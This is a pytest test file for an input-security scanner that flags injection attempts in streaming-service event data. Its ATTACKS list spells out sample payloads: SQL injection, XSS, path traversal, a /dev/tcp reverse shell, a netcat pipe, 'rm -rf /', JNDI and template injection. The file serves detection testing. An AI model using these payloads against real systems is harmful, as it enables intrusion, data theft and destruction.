from __future__ import annotations

import pytest
from pydantic import ValidationError

from ottwatch.stages.security import (
    CODE,
    PATTERN_NAMES,
    PATTERNS,
    InputSecurityStage,
    SecuritySettings,
    is_suspicious,
)

from .conftest import codes

# One or more payloads per named pattern: (expected pattern, payload).
ATTACKS = [
    ("sql_union_select", "1 UNION SELECT username, password FROM users"),
    ("sql_union_select", "1'/**/uNiOn/**/ALL/**/sElEcT/**/1,2"),
    ("sql_tautology", "' or '1'='1"),
    ("sql_tautology", "1 OR 1=1"),
    ("sql_tautology", "x' AND 1=2 -- "),
    ("sql_comment", "admin'--"),
    ("sql_comment", "admin' #"),
    ("sql_stacked_query", "42; DROP TABLE users"),
    ("sql_time_delay", "1 AND SLEEP(5)"),
    ("sql_time_delay", "1'; WAITFOR DELAY '0:0:5"),
    ("sql_time_delay", "1 AND BENCHMARK(5000000,MD5(1))"),
    ("sql_schema_probe", "0 from information_schema.tables"),
    ("sql_schema_probe", "@@version"),
    ("xss_script_tag", "<script>x</script>"),
    ("xss_script_tag", "< ScRiPt src=//evil.example>"),
    ("xss_js_uri", "javascript:void(0)"),
    ("xss_svg_onload", "<svg/onload=go()>"),
    ("xss_svg_onload", "<img src=x onerror=go()>"),
    ("xss_event_handler", "\" onmouseover=\"go()"),
    ("xss_embed_tag", "<iframe src=//evil.example>"),
    ("xss_dom_sink", "alert(document.cookie)"),
    ("xxe_or_ssi", "<!DOCTYPE x [<!ENTITY e SYSTEM 'http://evil'>]>"),
    ("path_traversal", "../../../../var/www"),
    ("path_traversal", "..\\..\\boot"),
    ("path_traversal", "%2e%2e%2f%2e%2e%2fvar"),
    ("sensitive_file", "/etc/passwd"),
    ("sensitive_file", "C:\\Windows\\System32"),
    ("null_byte", "avatar.php%00.png"),
    ("cmd_chaining", "x; rm -rf /"),
    ("cmd_chaining", "x | nc 198.51.100.7 4444"),
    ("cmd_chaining", "x && whoami"),
    ("cmd_substitution", "$(id)"),
    ("cmd_backticks", "`id`"),
    ("reverse_shell", "0<&196;exec 196<>/dev/tcp/198.51.100.7/4444"),
    ("jndi_lookup", "${jndi:ldap://198.51.100.7/a}"),
    ("template_expression", "{{7*7}}"),
    ("template_expression", "{% import os %}"),
    ("template_interpolation", "${7*7}"),
    ("template_interpolation", "#{7*7}"),
    ("template_erb", "<%= 7*7 %>"),
    ("nosql_operator", '{"$ne": null}'),
    ("nosql_operator", "user[$where]=1"),
    ("ldap_injection", "*)(uid=*))(|(uid=*"),
    ("crlf_injection", "en%0d%0aSet-Cookie:%20session=evil"),
    ("crlf_injection", "x\r\nLocation: http://evil.example"),
]

BENIGN = [
    "O'Brien",
    "D'Angelo & Sons",
    "Rock 'n' Roll",
    "https://cdn.example.com/v1/title/123?lang=en&quality=hd&order=asc",
    "https://www.example.com/watch#season-2",
    "Tom & Jerry (1940)",
    "Sleep (2019)",
    "Season 1 and 2 = 3 episodes",
    "He said 'hi' -- then left",
    "50% off",
    "100%",
    "alice@example.com",
    "5.2.1-beta+build.7",
    "price: $5",
    "Fast & Furious; Tokyo Drift",
    "Mission: Impossible",
    "The Union Station",
    "Cat lovers; dogs too",
    "<3 this show",
    "x=1;y=2",
    "Q&A: what's new?",
    "android-tv/12 (Sony BRAVIA)",
    "AUTH_FAILED",
    "premium",
]


@pytest.fixture
def stage() -> InputSecurityStage:
    return InputSecurityStage()


def test_there_are_at_least_18_named_patterns_and_each_has_a_sample() -> None:
    assert len(PATTERNS) >= 18
    assert len(set(PATTERN_NAMES)) == len(PATTERN_NAMES)
    assert {name for name, _ in ATTACKS} == set(PATTERN_NAMES)


@pytest.mark.parametrize(("pattern", "payload"), ATTACKS)
def test_attack_in_metadata_is_found_by_name(stage, make_event, run_stage, pattern, payload):
    event = make_event("search", extra_metadata={"query": payload})
    found = [hit.pattern for hit in stage.scan(event)]
    assert pattern in found
    batch = run_stage(stage, [event])
    assert codes(batch) == [[CODE]]
    assert "extra_metadata.query" in batch.reasons[0][0].detail


@pytest.mark.parametrize(("pattern", "payload"), ATTACKS)
def test_prefilter_lets_every_attack_through(pattern, payload):
    assert is_suspicious(payload)


@pytest.mark.parametrize("field", ["event_id", "user_id", "device_id", "content_id",
                                   "session_id", "error_code", "request_id",
                                   "subscription_plan", "payment_fingerprint"])
def test_every_string_field_is_scanned(stage, make_event, run_stage, field):
    event = make_event("play", **{field: "1 UNION SELECT card FROM payments"})
    batch = run_stage(stage, [event])
    assert codes(batch) == [[CODE]]
    assert batch.reasons[0][0].detail.startswith(f"sql_union_select in {field}:")


def test_unknown_event_type_is_scanned_too(stage, make_event, run_stage):
    batch = run_stage(stage, [make_event("<script>x</script>")])
    assert "xss_script_tag in event_type" in batch.reasons[0][0].detail


def test_nested_metadata_values_and_keys_are_scanned(stage, make_event):
    nested = make_event("search", extra_metadata={"a": {"b": ["fine", {"c": "<iframe src=x>"}]}})
    (hit,) = stage.scan(nested)
    assert (hit.pattern, hit.where) == ("xss_embed_tag", "extra_metadata.a.b[1].c")

    keyed = make_event("login", extra_metadata={"password": {"$ne": "x"}})
    (hit,) = stage.scan(keyed)
    assert (hit.pattern, hit.where) == ("nosql_operator", "extra_metadata.password.$ne (key)")


@pytest.mark.parametrize("payload", ["%3Cscript%3Ex%3C/script%3E",
                                     "%253Cscript%253Ex",  # encoded twice
                                     "%25253Cscript%25253E",  # three times
                                     "&#60;script&#62;x",
                                     "&lt;script&gt;x"])
def test_encoded_payloads_are_decoded(stage, make_event, payload):
    (hit,) = [h for h in stage.scan(make_event("search", content_id=payload))
              if h.pattern == "xss_script_tag"]
    assert hit.decoded


@pytest.mark.parametrize("payload", BENIGN)
def test_benign_strings_do_not_fire(stage, make_event, run_stage, payload):
    event = make_event("search", user_id=payload, content_id=payload,
                       extra_metadata={"referrer": payload, "note": [payload]})
    assert stage.scan(event) == []
    assert codes(run_stage(stage, [event])) == [[]]


def test_normal_events_do_not_fire(stage, make_event, run_stage):
    events = [
        make_event("play", device_id="dev-000123-tv-1", content_id="title-00042",
                   session_id="s-user-000123-9", subscription_plan="premium"),
        make_event("error", error_code="E_DRM"),
        make_event("login", error_code="AUTH_FAILED"),
        make_event("purchase", payment_fingerprint="pm-user-000123",
                   extra_metadata={"amount_cents": 999, "currency": "EUR"}),
    ]
    assert codes(run_stage(stage, events)) == [[], [], [], []]


def test_detail_names_pattern_and_field_and_caps_the_escaped_excerpt(stage, make_event,
                                                                     run_stage):
    payload = "x\r\nSet-Cookie: " + "A" * 500
    batch = run_stage(stage, [make_event("search", extra_metadata={"q": payload})])
    (reason,) = batch.reasons[0]
    assert reason.detail.startswith("crlf_injection in extra_metadata.q: '\\r\\nSet-Cookie: ")
    assert "\r" not in reason.detail and "\n" not in reason.detail
    assert "A" * 41 not in reason.detail
    assert len(reason.detail) < 120


def test_more_patterns_weigh_more_up_to_the_cap(make_event, run_stage):
    settings = SecuritySettings(weight=50, extra_pattern_weight=10, max_weight=65)
    stage = InputSecurityStage(settings)
    one = make_event("search", content_id="{{7*7}}")
    many = make_event("search", content_id="<script>alert(1)</script>",
                      extra_metadata={"q": "' UNION SELECT 1 --", "p": "../../etc/passwd"})
    batch = run_stage(stage, [one, many])
    assert batch.reasons[0][0].weight == 50
    assert batch.reasons[1][0].weight == 65
    assert "also" in batch.reasons[1][0].detail


def test_disabled_patterns_are_skipped_and_unknown_names_rejected(make_event):
    stage = InputSecurityStage(SecuritySettings(disabled_patterns=["template_expression"]))
    assert stage.scan(make_event("search", content_id="{{7*7}}")) == []
    with pytest.raises(ValueError, match="no_such_pattern"):
        InputSecurityStage(SecuritySettings(disabled_patterns=["no_such_pattern"]))


def test_settings_validate_ranges():
    with pytest.raises(ValidationError):
        SecuritySettings(weight=150)


def test_scanning_is_bounded_in_strings_depth_and_characters(make_event):
    settings = SecuritySettings(max_strings_per_event=5, max_metadata_depth=3,
                                max_chars_per_string=100, scan_metadata_keys=False)
    stage = InputSecurityStage(settings)
    many = {f"k{i}": "fine" for i in range(10)} | {"late": "<script>"}
    assert stage.scan(make_event("search", extra_metadata=many)) == []
    deep: dict[str, object] = {"x": "<script>"}
    for _ in range(5):
        deep = {"d": deep}
    assert stage.scan(make_event("search", extra_metadata=deep)) == []
    padded = "a" * 200 + "<script>"
    assert stage.scan(make_event("search", content_id=padded)) == []
    assert stage.scan(make_event("search", content_id="<script>" + "a" * 200))


@pytest.mark.parametrize("payload", ["' or" + " " * 50_000 + "x", "\n" * 50_000,
                                     "<svg " * 10_000, "%25" * 20_000, "{{" * 25_000,
                                     ";" + " " * 50_000 + "x"])
@pytest.mark.timeout(10)
def test_pathological_inputs_complete_without_backtracking_blowup(stage, make_event, payload):
    # Possessive whitespace runs and bounded repeats keep these linear (milliseconds);
    # a regression to backtracking takes minutes and fails at the timeout.
    stage.scan(make_event("search", extra_metadata={"q": payload}))
